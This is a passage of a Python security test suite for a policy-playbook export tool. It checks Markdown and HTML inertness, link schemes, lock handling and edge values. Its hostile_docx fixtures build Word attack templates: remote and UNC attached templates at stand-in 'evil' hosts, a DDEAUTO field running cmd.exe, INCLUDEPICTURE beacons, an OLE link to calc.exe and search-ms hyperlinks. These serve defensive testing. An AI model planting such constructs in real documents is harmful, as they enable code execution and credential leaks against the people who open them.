    return targets


def allowed_link(url: str) -> bool:
    """The test's own judgement of a live link (never the code under test's): http, https, mailto."""
    return url.strip().lower().startswith(("http:", "https:", "mailto:"))


def html_problems(document: str, *, own_tags: bool = False) -> list[str]:
    """Markup in rendered HTML that is not inert: unknown tags, attributes but a safe href, unsafe links."""
    parser = _Tags()
    parser.feed(document)
    problems = []
    for tag, attrs in parser.tags:
        if not own_tags and tag not in SAFE_TAGS:
            problems.append(f"<{tag}> became markup")
        for name, value in attrs:
            if name in ("href", "src") and value and not value.startswith("#") and not allowed_link(value):
                problems.append(f"{tag} {name}={value!r} is live")
            elif not own_tags and name != "href" and not (tag == "ol" and name == "start"):
                problems.append(f"<{tag} {name}=...> became markup")
            if name.startswith("on"):
                problems.append(f"<{tag} {name}> runs script")
    return problems


#: The Markdown viewers a document is judged in: CommonMark, and CommonMark with GFM tables (what
#: VS Code's preview and most Git hosts render), both with raw HTML on.
MARKDOWN_VIEWERS = ("commonmark", "commonmark + GFM tables")


def render_markdown(text: str, viewer: str) -> str:
    """``text`` as one of :data:`MARKDOWN_VIEWERS` renders it."""
    from markdown_it import MarkdownIt

    parser = MarkdownIt("commonmark", {"html": True})
    if viewer.endswith("GFM tables"):
        parser.enable("table")
    return parser.render(text)


def markdown_inert(text: str) -> list[str]:
    """A Markdown document viewed in each of :data:`MARKDOWN_VIEWERS`, and through a real sanitiser."""
    problems = []
    for viewer in MARKDOWN_VIEWERS:
        problems += [f"{viewer}: {p}" for p in _inert_in(render_markdown(text, viewer))]
    return problems


def _inert_in(rendered: str) -> list[str]:
    import nh3

    problems = html_problems(rendered)
    cleaned = nh3.clean(
        rendered,
        tags=SAFE_TAGS,
        attributes={"a": {"href"}, "ol": {"start"}},
        url_schemes={"http", "https", "mailto"},
        link_rel=None,
        strip_comments=False,
    )
    if _tag_view(cleaned) != _tag_view(rendered):
        problems.append("the sanitiser had to remove something from the rendered Markdown")
    return problems


def _tag_view(document: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    parser = _Tags()
    parser.feed(document)
    return [(tag, sorted(attrs, key=lambda a: a[0])) for tag, attrs in parser.tags]


def _attacked_playbook() -> Any:
    playbook = storage.load(HUB)
    data = playbook.model_dump(mode="json")
    text = "\n\n".join(MARKDOWN_ATTACKS)
    data["scope"]["purpose"] = text
    for clause in data["conduct"]["clauses"][:3]:
        clause["wording"] = text
    return type(playbook).model_validate(data)


def markdown(folder: Path) -> Report:
    """User text in Markdown output is inert under CommonMark with raw HTML on (and a sanitiser)."""
    from playbooks.export import export_document
    from playbooks.export.richtext import markdown_passthrough

    report = Report("Markdown")
    for number, attack in enumerate(MARKDOWN_ATTACKS):
        report.case(f"field text {number} in Markdown", markdown_inert(markdown_passthrough(attack)))
    playbook = _attacked_playbook()
    for doc in ("policy", "guidelines", "checklist"):
        report.case(f"{doc}.md", markdown_inert(export_document(playbook, doc, "md").decode("utf-8")))
    return report


def link_schemes(folder: Path, *, pdf: bool = True) -> Report:
    """Only http, https and mailto are live links, in HTML, Word, Markdown and (with Qt) PDF."""

    from playbooks.export import export_document

    report = Report("link schemes")
    playbook = _attacked_playbook()
    for doc in ("policy", "guidelines"):
        report.case(f"{doc}.html", html_problems(export_document(playbook, doc, "html").decode("utf-8"), own_tags=True))
        document = export_document(playbook, doc, "md").decode("utf-8")
        for viewer in MARKDOWN_VIEWERS:
            rendered = render_markdown(document, viewer)
            report.case(f"{doc}.md ({viewer})", [p for p in html_problems(rendered, own_tags=True) if "is live" in p])
        data = export_document(playbook, doc, "docx")
        problems = []
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for name in archive.namelist():
                if name.endswith(".rels"):
                    rels = archive.read(name).decode()
                    for target in re.findall(r'Target="([^"]*)"[^>]*TargetMode="External"', rels):
                        if not allowed_link(target):
                            problems.append(f"a live link to {target}")
                if name.endswith(".xml") and b"HYPERLINK" in archive.read(name):
                    problems.append("a HYPERLINK field")
        report.case(f"{doc}.docx", problems)
        if pdf:
            import ui.pdf  # noqa: F401  (registers the PDF writer; needs Qt)

            bad = [uri for uri in pdf_link_targets(export_document(playbook, doc, "pdf")) if not allowed_link(uri)]
            report.case(f"{doc}.pdf", [f"a live link to {bad}"] if bad else [])
    return report


# ---------------------------------------------------------------- 10. custom Word templates


def plain_docx() -> bytes:
    """A plain custom Word template: it renders, and is what every hostile one starts from."""
    from docx import Document

    document = Document()
    document.add_paragraph("{{ control.title }}: see https://example.org/policy")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def hostile_docx(kind: str) -> bytes:
    """:func:`plain_docx` with one active part added (see :data:`DOCX_ATTACKS`)."""
    parts: dict[str, bytes] = {}
    with zipfile.ZipFile(io.BytesIO(plain_docx())) as source:
        for name in source.namelist():
            parts[name] = source.read(name)
    rels = "word/_rels/document.xml.rels"
    r_ns = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

    def add_rel(part: str, rel_id: str, kind_: str, target: str, external: bool = True) -> None:
        body = parts.get(
            part,
            b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
        )
        mode = ' TargetMode="External"' if external else ""
        rel = f'<Relationship Id="{rel_id}" Type="{r_ns}/{kind_}" Target="{target}"{mode}/>'.encode()
        parts[part] = body.replace(b"</Relationships>", rel + b"</Relationships>")

    def add_body(xml: str) -> None:
        document = parts["word/document.xml"]
        at = document.rindex(b"<w:sectPr")  # paragraphs go before the body's closing section properties
        parts["word/document.xml"] = document[:at] + xml.encode() + document[at:]

    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    if kind == "macros":
        parts["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macro"
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'
        )
    elif kind == "macro content type only":
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )
    elif kind == "remote attached template":
        add_rel("word/_rels/settings.xml.rels", "rIdT1", "attachedTemplate", "http://evil.example/t.dotm")
    elif kind == "UNC attached template":
        add_rel("word/_rels/settings.xml.rels", "rIdT1", "attachedTemplate", "file://evil/share/t.dotm")
    elif kind == "UNC image":
        add_rel(rels, "rIdX1", "image", "\\\\evil\\share\\x.png")
    elif kind == "http image":
        add_rel(rels, "rIdX1", "image", "http://evil.example/beacon.png")
    elif kind == "external OLE link":
        add_rel(rels, "rIdX1", "oleObject", "file:///C:/Windows/system32/calc.exe")
    elif kind == "smb hyperlink":
        add_rel(rels, "rIdX1", "hyperlink", "smb://evil/share")
    elif kind == "search-ms hyperlink":
        add_rel(rels, "rIdX1", "hyperlink", "search-ms:query=x&crumb=location:\\\\evil\\s")
    elif kind == "frame":
        add_rel("word/_rels/webSettings.xml.rels", "rIdF1", "frame", "http://evil.example/frame.html")
    elif kind == "altChunk":
        add_rel(rels, "rIdA1", "aFChunk", "chunk.mht", external=False)
        parts["word/chunk.mht"] = b"MIME-Version: 1.0"
    elif kind == "ActiveX":
        parts["word/activeX/activeX1.xml"] = (
            b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX"/>'
        )
    elif kind == "OLE object":
        parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0 ole"
    elif kind == "INCLUDEPICTURE split over runs":
        add_body(
            f'<w:p {w}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE'
            '</w:instrText></w:r><w:r><w:instrText xml:space="preserve">PICTURE "http://evil.example/x.png" \\d'
            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    elif kind == "DDEAUTO field":
        add_body(f"<w:p {w}><w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"'/></w:p>")
    elif kind == "INCLUDETEXT nested in IF":
        add_body(
            f'<w:p {w}><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF 1 = 1 "</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "\\\\\\\\evil\\\\s\\\\x.docx"'
            '</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>"</w:instrText></w:r>'
            '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        )
    elif kind == "HYPERLINK field to a share":
        add_body(f"<w:p {w}><w:fldSimple w:instr=' HYPERLINK \"file://evil/share/x\" '/></w:p>")
    else:
        raise ValueError(kind)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in parts.items():
            target.writestr(name, data)
    return out.getvalue()


#: Each attack on a Word template, and the part its refusal must name.
DOCX_ATTACKS = {
    "macros": "word/vbaProject.bin",
    "macro content type only": "[Content_Types].xml",
    "remote attached template": "word/_rels/settings.xml.rels",
    "UNC attached template": "word/_rels/settings.xml.rels",
    "UNC image": "word/_rels/document.xml.rels",
    "http image": "word/_rels/document.xml.rels",
    "external OLE link": "word/_rels/document.xml.rels",
    "smb hyperlink": "word/_rels/document.xml.rels",
    "search-ms hyperlink": "word/_rels/document.xml.rels",
    "frame": "word/_rels/webSettings.xml.rels",
    "altChunk": "word/_rels/document.xml.rels",
    "ActiveX": "word/activeX/activeX1.xml",
    "OLE object": "word/embeddings/oleObject1.bin",
    "INCLUDEPICTURE split over runs": "word/document.xml",
    "DDEAUTO field": "word/document.xml",
    "INCLUDETEXT nested in IF": "word/document.xml",
    "HYPERLINK field to a share": "word/document.xml",
}


def word_template_refusal(templates: Path, data: bytes, playbook: Any) -> tuple[str, list[str]]:
    """The policy exported as Word with ``data`` as the custom template (in the new folder
    ``templates``): the refusal ('' when the template was used) and what went wrong (it was
    used, or the export ended in something else than a refusal)."""
    from playbooks.export import ExportError, export_document

    templates.mkdir()
    (templates / "policy.docx").write_bytes(data)
    try:
        export_document(playbook, "policy", "docx", template_dir=templates)
    except ExportError as exc:
        return str(exc), []
    except Exception as exc:
        return "", [f"an internal error: {type(exc).__name__}: {exc}"]
    return "", ["the template was used"]


def word_templates(folder: Path) -> Report:
    """Custom Word templates with active parts: refused in one line naming the part."""
    from playbooks.export import ExportError, export_document

    report = Report("custom Word templates")
    playbook = storage.load(HUB)
    for number, (kind, part) in enumerate(DOCX_ATTACKS.items()):
        message, problems = word_template_refusal(folder / f"word-{number}", hostile_docx(kind), playbook)
        if message and ("\n" in message or "policy.docx" not in message or part not in message):
            problems.append(f"not one line naming the template and {part}: {message}")
        report.case(kind, problems)
    templates = folder / "word-plain"
    templates.mkdir()
    (templates / "policy.docx").write_bytes(plain_docx())
    try:
        export_document(playbook, "policy", "docx", template_dir=templates)
        report.case("a plain template", [])
    except ExportError as exc:
        report.case("a plain template", [f"refused: {exc}"])
    return report


# ---------------------------------------------------------------- 11. locks


def locks(folder: Path) -> Report:
    """Stale, future-dated and damaged locks (and breakers) are recognised and broken, never a hang."""
    report = Report("locks")
    now = dt.datetime.now(dt.UTC)

    def lock_json(**fields: Any) -> bytes:
        data = {"app": "charter", "host": "laptop-elsewhere", "pid": 4242, "user": "anna", "token": "t",
                "time": now.isoformat()}  # fmt: skip
        data.update(fields)
        return json.dumps(data).encode()

    shapes: dict[str, Callable[[Path], object]] = {
        "dated a day ahead": lambda p: p.write_bytes(lock_json(time=(now + dt.timedelta(days=1)).isoformat())),
        "dated in 9999": lambda p: p.write_bytes(lock_json(time="9999-12-31T23:59:59+00:00")),
        "dated in year 1": lambda p: p.write_bytes(lock_json(time="0001-01-01T00:00:00")),
        "old, from another host": lambda p: p.write_bytes(lock_json(time=(now - dt.timedelta(hours=5)).isoformat())),
        "empty": lambda p: p.write_bytes(b""),
        "garbage": lambda p: p.write_bytes(b"\x00\xff" * 50),
        "not an object": lambda p: p.write_bytes(b"[1, 2]"),
        "huge": lambda p: p.write_bytes(b'{"pad": "' + b"x" * 10_000_000 + b'"}'),
        "pid as text": lambda p: p.write_bytes(lock_json(pid="many")),
        "a fifo": lambda p: os.mkfifo(p),
        "a dangling link": lambda p: p.symlink_to(folder / "nowhere"),
        "a link to a device": lambda p: p.symlink_to(_private_device(folder)),
        "an empty folder": lambda p: p.mkdir(),
    }
    for label, shape in shapes.items():
        target = hub_copy(folder, f"lock-{len(list(folder.iterdir()))}.playbook.yaml")
        shape(locking.lock_path(target))
        report.case(f"a lock {label}", _acquired(target))
    breakers: dict[str, Callable[[Path], object]] = {
        "a dangling link": lambda p: p.symlink_to(folder / "nowhere"),
        "a folder": lambda p: p.mkdir(),
        "a fifo": lambda p: os.mkfifo(p),
        "dated in the future": _future_file,
    }
    for label, shape in breakers.items():
        target = hub_copy(folder, f"breaker-{len(list(folder.iterdir()))}.playbook.yaml")
        locking.lock_path(target).write_bytes(b"damaged")
        shape(locking.lock_path(target).with_name(locking.lock_path(target).name + ".break"))
        report.case(f"a damaged lock and a breaker that is {label}", _acquired(target, attempts=3))
    # a live lock that cannot be removed: the holder is named, and "Edit anyway" still opens
    target = hub_copy(folder, "stuck.playbook.yaml")
    locking.lock_path(target).mkdir()
    (locking.lock_path(target) / "keep").write_text("x", encoding="utf-8")
    held = locking.acquire(target)
    problems = []
    if not isinstance(held, locking.Held) or "damaged" not in held.other.describe():
        problems.append(f"a lock folder with content was not named as damaged: {held}")
    forced = locking.acquire(target, force=True)
    if not isinstance(forced, locking.PlaybookLock):
        problems.append("'Edit anyway' failed")
    report.case("a lock that is a folder with content", problems)
    # the holder and the age are shown, in one line, whatever the lock file holds
    target = hub_copy(folder, "shown.playbook.yaml")
    locking.lock_path(target).write_bytes(
        lock_json(user=f"anna {FORGERY}", host="HOST\nFORGED", time=(now - dt.timedelta(minutes=25)).isoformat())
    )
    held = locking.acquire(target)
    problems = []
    if not isinstance(held, locking.Held):
        problems.append("a fresh lock of another host was not reported")
    else:
        text = held.other.describe()
        if "25 minutes ago" not in text or not text.isprintable():
            problems.append(f"the holder is not shown with the age on one line: {text!r}")
    code, out, err = cli(["signoff", str(target), "--approver", "Late Comer", "--role", "Reviewer"])
    problems += answer_problems(code, out, err)
    if code != 2 or "25 minutes ago" not in err:
        problems.append(f"the command line does not show the holder and age: {err!r}")
    report.case("holder and age shown", problems)
    return report


def _private_device(folder: Path) -> Path:
    """A character device (a fifo without root) of this folder's own: a regression that wrote
    through a link to it must not touch the system's devices."""
    device = folder / "device"
    if not os.path.lexists(device):
        if os.geteuid() == 0:
            os.mknod(device, stat.S_IFCHR | 0o666, os.makedev(1, 5))  # what /dev/zero is
        else:
            os.mkfifo(device)
    return device


def _future_file(path: Path) -> None:
    path.write_bytes(b"")
    os.utime(path, (time.time() + 86400,) * 2)


def _acquired(target: Path, attempts: int = 1) -> list[str]:
    started = time.monotonic()
    result: locking.PlaybookLock | locking.Held | None = None
    for _ in range(attempts):  # a breaker left behind is cleared on one try, the lock taken on the next
        result = locking.acquire(target)
        if isinstance(result, locking.PlaybookLock):
            break
    problems = []
    if time.monotonic() - started > 10:
        problems.append("it took more than 10 s")
    if not isinstance(result, locking.PlaybookLock) or not result.written:
        problems.append(f"the lock was not taken: {result}")
    else:
        held = locking.read_lock(target)
        if held is None or held.token != result.info.token:
            problems.append("the lock on disk is not ours")
        result.release()
    return problems


# ---------------------------------------------------------------- 12. edges


def edges(folder: Path) -> Report:
    """Edge values: clear refusals or correct handling, never exit 3."""
    report = Report("edges")
    text = HUB.read_text(encoding="utf-8")
    big = "9" * 5000
    expected = {"major": "1" + "0" * 5000 + ".0.0", "minor": f"{big}.10.0", "patch": f"{big}.9.10"}
    for bump, version in expected.items():
        huge = folder / f"huge-version-{bump}.playbook.yaml"
        huge.write_text(re.sub(r"\n  version: [^\n]*", f"\n  version: {big}.9.9", text, count=1), encoding="utf-8")
        code, out, err = cli(["signoff", str(huge), "--approver", "Big Number", "--role", "Reviewer", "--bump", bump])
        problems = answer_problems(code, out, err)
        if code == 0 and load_yaml(huge.read_text(encoding="utf-8"))["document"]["version"] != version:
            problems.append(f"--bump {bump} gave a wrong version")
        report.case(f"a 5,000-digit major, --bump {bump}", problems)
    target = hub_copy(folder, "dates.playbook.yaml")
    for when in ("0001-01-01", "9999-12-31", "1899-12-31", (dt.date.today() + dt.timedelta(days=30)).isoformat()):
        before = digest(target)
        code, out, err = cli(
            ["signoff", str(target), "--approver", "Date Tester", "--role", "Reviewer", "--date", when]
        )
        problems = answer_problems(code, out, err)
        if code == 0 or digest(target) != before:
            problems.append(f"a sign-off dated {when} was recorded")
        report.case(f"a sign-off dated {when}", problems)
    code, out, err = cli(
        ["signoff", str(target), "--approver", "Date Tester", "--role", "Reviewer", "--date", "2024-02-29"]
    )
    report.case("a plausible past date", answer_problems(code, out, err, frozenset({0})))
    data = storage.to_data(storage.load(HUB))
    data["document"]["title"] = "Policy \U0001f600 \u00fc"
    for label, dumped in (
        ("JSON as json.dumps writes it (escaped emoji)", json.dumps(data)),
        ("JSON with raw emoji", json.dumps(data, ensure_ascii=False)),
        ("JSON, escaped, indented", json.dumps(data, indent=2)),
    ):
        path = folder / f"json-{len(list(folder.iterdir()))}.playbook.yaml"
        path.write_text(dumped, encoding="utf-8")
        code, out, err = cli(["validate", str(path)])
        problems = answer_problems(code, out, err, frozenset({0, 1}))
        with contextlib.suppress(storage.PlaybookLoadError):
            if storage.load(path).document.title != data["document"]["title"]:
                problems.append("the title was not read as written")
        report.case(label, problems)
    lone = folder / "lone-surrogate.playbook.yaml"
    lone.write_text(json.dumps(data).replace("\\ud83d\\ude00", "\\ud83d"), encoding="utf-8")
    code, out, err = cli(["validate", str(lone)])
    report.case("JSON with a lone surrogate escape", answer_problems(code, out, err, frozenset({2})))
    for label, argv in (
        ("a comment that is not UTF-8", ["--comment", os.fsdecode(b"bad \xff byte")]),
        ("a role of 10,000 characters", ["--role", "R" * 10_000]),
    ):
        code, out, err = cli(["signoff", str(target), "--approver", "Edge Case", "--role", "Reviewer", *argv])
        report.case(label, answer_problems(code, out, err))
    return report


#: Every class, in the issue's order (PDF needs Qt: the Qt tests and the campaign run those classes).
CLASSES: dict[str, Callable[[Path], Report]] = {
    "concurrent writers": concurrent_writers,
    "shared folders": shared_folders,
    "planted links and outputs": planted_links,
    "numbers": numbers,
    "file names": file_names,
    "terminal injection": terminal,
    "custom templates in PDF": pdf_templates,
    "Markdown": markdown,
    "link schemes": link_schemes,
    "custom Word templates": word_templates,
    "locks": locks,
    "edges": edges,
}
